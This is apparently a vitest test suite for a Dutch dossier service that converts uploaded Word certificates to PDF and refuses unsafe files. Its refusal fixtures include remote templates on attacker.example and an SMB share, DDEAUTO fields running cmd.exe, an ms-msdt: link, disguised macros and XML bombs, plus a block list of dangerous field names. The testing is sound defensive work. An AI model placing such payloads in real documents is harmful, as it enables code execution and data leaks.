import { PDFDocument, PDFName, PDFRawStream } from '@cantoo/pdf-lib';
import { strToU8 } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { wordToPdf } from '../src/content/word/word-to-pdf.ts';
import { readPdfText } from '../src/reader/sources/pdf-text.ts';
import { certificate, createTestSystem, formOf } from './start-test-file.ts';
import { field, paragraph, part, picture, relationships, wordOf, wordWith } from './word-file.ts';

type System = Awaited<ReturnType<typeof createTestSystem>>;
let system: System;
let files: Awaited<ReturnType<System['start']>>;
let reporter: Awaited<ReturnType<typeof files.signIn>>;

beforeAll(async () => {
  system = await createTestSystem();
  files = await system.start();
  reporter = await files.signIn();
});
afterAll(() => system.end());

const send = (bytes: Uint8Array, originalName = 'akte van overlijden.docx') =>
  reporter.uploadToDossier({ form: formOf(bytes, { originalName, dossierId: reporter.dossierId }) });

async function copyOf(bytes: Uint8Array, originalName?: string) {
  const uploaded = await send(bytes, originalName);
  const response = await reporter.download({ params: { fileId: uploaded._id } });
  return {
    uploaded,
    headers: response.headers,
    bytes: new Uint8Array(await response.arrayBuffer()),
  };
}

/** Its words, page by page. */
const wordsIn = async (pdf: Uint8Array) =>
  (await readPdfText(new Uint8Array(pdf))).map(({ words }) => words.map(({ text }) => text).join(' '));
const SOURCE = 'Tekst en beeld van een Word-bestand, zonder de opmaak ';
const textIn = async (pdf: Uint8Array) => (await wordsIn(pdf)).join(' ').replace(SOURCE, '');

async function picturesIn(pdf: Uint8Array): Promise<Uint8Array[]> {
  const { context } = await PDFDocument.load(pdf, { updateMetadata: false });
  return context
    .enumerateIndirectObjects()
    .flatMap(([, object]) =>
      object instanceof PDFRawStream && object.dict.get(PDFName.of('Subtype')) === PDFName.of('Image')
        ? [object.contents]
        : [],
    );
}

const dots = (colour: string, width = 200, height = 100) =>
  sharp({ create: { width, height, channels: 3, background: colour } })
    .jpeg()
    .toBuffer();

describe('a certificate that is a Word file', () => {
  it('is handed on as a new PDF under its own name, and read from the original', async () => {
    const { uploaded, headers, bytes } = await copyOf(certificate('akte-form.docx'));
    expect(uploaded.mimetype).toBe('application/pdf');
    expect(headers.get('content-type')).toBe('application/pdf');
    expect(headers.get('content-disposition')).toContain('filename="akte van overlijden.pdf"');
    expect(Buffer.from(bytes).includes('word/document.xml')).toBe(false);
    expect(await textIn(bytes)).toMatch(/Geslachtsnaam van Wijk Voornamen Aaltje Adriana/);
    const reading = await reporter.validateFile({ params: { fileId: uploaded._id } });
    expect(reading).toMatchObject({ last_name: 'Wijk', date_of_death: '2019-10-28' });
    const internal = await files.internal.readContent({ params: { fileId: uploaded._id } });
    expect(internal.headers.get('content-type')).toBe('application/pdf');
  });

  it('keeps text and pictures in their order, from the header to the footer', async () => {
    const parts = {
      'word/_rels/document.xml.rels': relationships(
        { kind: 'image', target: 'media/eerste.jpg' },
        { kind: 'image', target: '/word/media/tweede.jpg' },
        { kind: 'footer', target: 'footer1.xml' },
        { kind: 'header', target: 'header1.xml' },
        { kind: 'footnotes', target: 'footnotes.xml' },
        { kind: 'hyperlink', target: 'https://www.gemeente.example', isExternal: true },
      ),
      'word/media/eerste.jpg': await dots('red', 600, 400),
      'word/media/tweede.jpg': await dots('blue', 300, 500),
      'word/header1.xml': part('hdr', paragraph('Briefhoofd')),
      'word/footer1.xml': part('ftr', paragraph('Briefvoet')),
      'word/footnotes.xml': part(
        'footnotes',
        `<w:footnote w:type="separator">${paragraph('streep')}</w:footnote><w:footnote>${paragraph('Noot')}</w:footnote>`,
      ),
    };
    const row =
      '<w:tr><w:tc><w:p><w:r><w:t>Links</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>Rechts</w:t></w:r></w:p></w:tc></w:tr>';
    const hidden = '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>verborgen</w:t></w:r></w:p>';
    const twice =
      `<w:p><w:r><mc:AlternateContent><mc:Choice>${paragraph('Kader')}</mc:Choice>` +
      `<mc:Fallback>${paragraph('Kader')}</mc:Fallback></mc:AlternateContent></w:r></w:p>`;
    const body = [
      paragraph('Begin'),
      picture('rId1'),
      paragraph('Midden'),
      picture('rId2', '<a:srcRect t="50000"/>'),
      `<w:tbl>${row}</w:tbl>`,
      hidden,
      twice,
      field(' PA', 'GE '),
      paragraph('Slot'),
    ].join('');
    const { bytes } = await copyOf(wordOf(body, parts));
    expect(await textIn(bytes)).toBe(
      'Briefhoofd Begin Midden Links Rechts Kader uitkomst Slot Noot Briefvoet',
    );
    const sizes = await Promise.all((await picturesIn(bytes)).map((one) => sharp(one).metadata()));
    expect(sizes.map(({ width, height }) => [width, height])).toEqual([
      [600, 400],
      [300, 250],
    ]);
  });

  it('keeps every letter of a name, and which boxes are ticked', async () => {
    const names = 'Şükrü Çelik İnan Łukasz Wójcik Ĳsbrand Nguyễn Ђорђе Παπαδόπουλος';
    const box =
      '<w:p><w:r><w:sym w:font="Wingdings" w:char="F0FE"/><w:t xml:space="preserve"> weduwe ☐ gehuwd</w:t></w:r></w:p>';
    const { bytes } = await copyOf(wordOf(paragraph(names) + box));
    expect(await textIn(bytes)).toBe(`${names.replace('Ĳ', 'IJ')} [x] weduwe [ ] gehuwd`);
  });

  it('starts new pages where the original does, up to forty', async () => {
    const pages = (count: number) =>
      wordOf(`${paragraph('bladzijde')}<w:p><w:r><w:br w:type="page"/></w:r></w:p>`.repeat(count));
    expect(await wordsIn((await copyOf(pages(2))).bytes)).toEqual([`${SOURCE}bladzijde`, 'bladzijde', '']);
    await expect(send(pages(60))).rejects.toMatchObject({ status: 422, problem: { rule: 'too-many-pages' } });
  });

  it('contains neither the metadata of its pictures nor what is cropped', async () => {
    const photo = await sharp(await dots('red'))
      .withExif({ IFD0: { Artist: 'Wilhelmina' } })
      .toBuffer();
    const { bytes } = await copyOf(
      wordOf(picture('rId1'), {
        'word/_rels/document.xml.rels': relationships({ kind: 'image', target: 'media/a.jpg' }),
        'word/media/a.jpg': photo,
      }),
    );
    const [shown] = await picturesIn(bytes);
    expect((await sharp(shown).metadata()).exif).toBeUndefined();
  });
});

const settings = (relationship: { kind: string; target: string }) => ({
  'word/settings.xml': part('settings', ''),
  'word/_rels/settings.xml.rels': relationships({ ...relationship, isExternal: true }),
});
const remotePicture = {
  'word/_rels/document.xml.rels': relationships({
    kind: 'image',
    target: 'http://attacker.example/dot.png',
    isExternal: true,
  }),
};
const nested = `${field('x').replace('<w:t>uitkomst</w:t>', `</w:r>${field(' DDEAUTO c:\\\\cmd.exe ')}<w:r>`)}`;

describe('a Word file is refused', () => {
  const REFUSED: [string, string, () => Uint8Array][] = [
    [
      'a template from elsewhere',
      'outside',
      () => wordWith(settings({ kind: 'attachedTemplate', target: 'http://attacker.example/evil.dotm' })),
    ],
    [
      'a template on a share',
      'outside',
      () =>
        wordWith(settings({ kind: 'attachedTemplate', target: 'file:///\\\\attacker\\share\\evil.dotm' })),
    ],
    ['a picture from elsewhere', 'outside', () => wordOf(picture('rId1'), remotePicture)],
    [
      'a source of names and addresses',
      'outside',
      () => wordWith(settings({ kind: 'mailMergeSource', target: 'file:///c:/klanten.xlsx' })),
    ],
    [
      'a link that runs',
      'outside',
      () =>
        wordOf('', {
          'word/_rels/document.xml.rels': relationships({
            kind: 'hyperlink',
            target: 'ms-msdt:/id',
            isExternal: true,
          }),
        }),
    ],
    [
      'a reference out, written otherwise',
      'outside',
      () =>
        wordOf('', {
          'word/_rels/document.xml.rels': relationships({
            kind: 'image',
            target: 'http://a.example',
            isExternal: true,
          }).replace('"External"', "'&#69;xternal'"),
        }),
    ],
    ...[
      'DDE',
      'DDEAUTO',
      'INCLUDEPICTURE',
      'INCLUDETEXT',
      'LINK',
      'IMPORT',
      'DATABASE',
      'RD',
      'AUTOTEXT',
      'MACROBUTTON',
      'FILLIN',
    ].map((name): [string, string, () => Uint8Array] => [
      `the field ${name}`,
      'outside',
      () => wordOf(field(` ${name} c:\\\\x `)),
    ]),
    [
      'a field in small letters and in pieces',
      'outside',
      () => wordOf(field(' dde', 'auto', ' c:\\\\cmd.exe')),
    ],
    ['a field in a field', 'outside', () => wordOf(nested)],
    [
      'a field that never ends',
      'outside',
      () =>
        wordOf(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>',
        ),
    ],
    ['a simple field', 'outside', () => wordOf('<w:p><w:fldSimple w:instr="INCLUDETEXT c:\\\\x"/></w:p>')],
    [
      'a field in a header',
      'outside',
      () => wordOf('', { 'word/header1.xml': part('hdr', field('DDEAUTO x')) }),
    ],
    [
      'a field in a namespace of another name',
      'outside',
      () =>
        wordWith({
          'word/document.xml':
            '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDEAUTO x"/></x:document>',
        }),
    ],
    [
      'another document in it',
      'unknown-parts',
      () => wordOf('<w:altChunk r:id="rId1"/>', { 'word/afchunk.mht': 'x' }),
    ],
    ['another document named only', 'unknown-parts', () => wordOf('<w:altChunk r:id="rId1"/>')],
    [
      'a reference of an unknown kind',
      'unknown-parts',
      () =>
        wordOf('', {
          'word/_rels/document.xml.rels': relationships({ kind: 'aFChunk', target: 'media/a.png' }),
        }),
    ],
    ['an unknown part', 'unknown-parts', () => wordWith({ 'word/charts/chart1.xml': '<a/>' })],
    ['a program beside it', 'unknown-parts', () => wordWith({ 'evil.exe': 'MZ' })],
    [
      'an entity',
      'unknown-parts',
      () =>
        wordWith({
          'word/document.xml': `<!DOCTYPE a [<!ENTITY b "${'c'.repeat(99)}">]>${part('document', '&b;')}`,
        }),
    ],
    ['macros', 'macros', () => wordWith({ 'word/vbaProject.bin': 'x' })],
    ['macros under another name', 'macros', () => wordWith({ 'word/opslag.bin': 'x' })],
    [
      'macros as a picture',
      'macros',
      () =>
        wordOf('', {
          'word/media/a.png': 'x',
          'word/_rels/document.xml.rels': relationships({
            kind: '../../../office/2006/relationships/vbaProject',
            target: 'media/a.png',
          }),
        }),
    ],
    [
      'macros that the list of contents calls so',
      'macros',
      () =>
        wordWith({
          'word/media/a.png': 'x',
          '[Content_Types].xml':
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/media/a.png" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        }),
    ],
    ['a file in it', 'macros', () => wordWith({ 'word/embeddings/a.xlsx': 'x' })],
    ['a button that runs', 'macros', () => wordWith({ 'word/activeX/activeX1.xml': '<a/>' })],
    [
      'text in another encoding',
      'corrupt',
      () =>
        wordWith({
          'word/document.xml': Buffer.from(`\ufeff${part('document', field('DDEAUTO x'))}`, 'utf16le'),
        }),
    ],
    ['XML that is none', 'corrupt', () => wordWith({ 'word/document.xml': '<w:document>' })],
    [
      'text nested without end',
      'too-much-unpacked',
      () => wordOf('<w:p>'.repeat(5000) + '</w:p>'.repeat(5000)),
    ],
    ['text of a million elements', 'too-much-unpacked', () => wordOf('<w:p/>'.repeat(1_000_000))],
    [
      'a drawing that only Word knows',
      'not-settable',
      () =>
        wordOf(picture('rId1'), {
          'word/_rels/document.xml.rels': relationships({ kind: 'image', target: 'media/a.emf' }),
          'word/media/a.emf': 'EMF',
        }),
    ],
    [
      'a picture that is a page',
      'not-settable',
      () =>
        wordOf(picture('rId1'), {
          'word/_rels/document.xml.rels': relationships({ kind: 'image', target: 'media/a.svg' }),
          'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
        }),
    ],
    ['letters that we have not', 'not-settable', () => wordOf(paragraph('李明'))],
  ];
  const OLD: (typeof REFUSED)[number] = [
    'the Word of before 2007',
    'old-word',
    () =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
        Buffer.from('WordDocument', 'utf16le'),
      ]),
  ];

  it.each(REFUSED)('for %s: %s', async (_what, reason, bytes) => {
    await expect(wordToPdf(bytes())).rejects.toMatchObject({ name: 'UnreadableDocument', reason });
  });

  const oneOfEach = REFUSED.filter(([, rule], at) => REFUSED.findIndex(([, other]) => other === rule) === at);
  it.each([...oneOfEach, OLD])('when it is uploaded, with the reason: %s: %s', async (_what, rule, bytes) => {
    await expect(send(bytes())).rejects.toMatchObject({
      status: 422,
      problem: { rule, detail: expect.any(String), errors: [{ field: 'file', code: 'unreadable' }] },
    });
  });

  it('and other uploads still work', async () => {
    expect((await send(certificate('akte-form.docx'))).mimetype).toBe('application/pdf');
    expect(system.logged.join('')).not.toMatch(/request failed/);
  });
});

describe('a Word file stored before Word files were converted', () => {
  const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  async function storedBefore(bytes: Uint8Array, mimetype = WORD) {
    const { _id: fileId } = await send(certificate('akte-form.docx'));
    await system.putBlob(fileId, 'original', bytes);
    await system.putBlob(fileId, 'copy', bytes);
    await system.setKind(fileId, mimetype);
    return fileId;
  }
  const download = async (fileId: string) => {
    const response = await files.internal.readContent({ params: { fileId } });
    return { headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) };
  };

  it('is sent as a PDF, to several callers in parallel and from then on', async () => {
    const fileId = await storedBefore(certificate('akte-form.docx'));
    const all = [...(await Promise.all([download(fileId), download(fileId)])), await download(fileId)];
    for (const { headers, bytes } of all) {
      expect(headers.get('content-type')).toBe('application/pdf');
      expect(headers.get('content-disposition')).toContain('.pdf"');
      expect(await textIn(bytes)).toContain('van Wijk');
    }
  });

  it.each([
    [
      'reaches outside',
      () => wordWith(settings({ kind: 'attachedTemplate', target: 'http://attacker.example/evil.dotm' })),
      WORD,
    ],
    ['is of before 2007', () => strToU8('WordDocument'), 'application/msword'],
  ])('that %s is replaced by a page that says what to do', async (_what, bytes, mimetype) => {
    const { headers, bytes: sent } = await download(await storedBefore(bytes(), mimetype));
    expect(headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(sent).includes('attacker')).toBe(false);
    expect(await textIn(sent)).toMatch(/nog niet als pdf.*Antwoord dan op de mail/);
  });
});
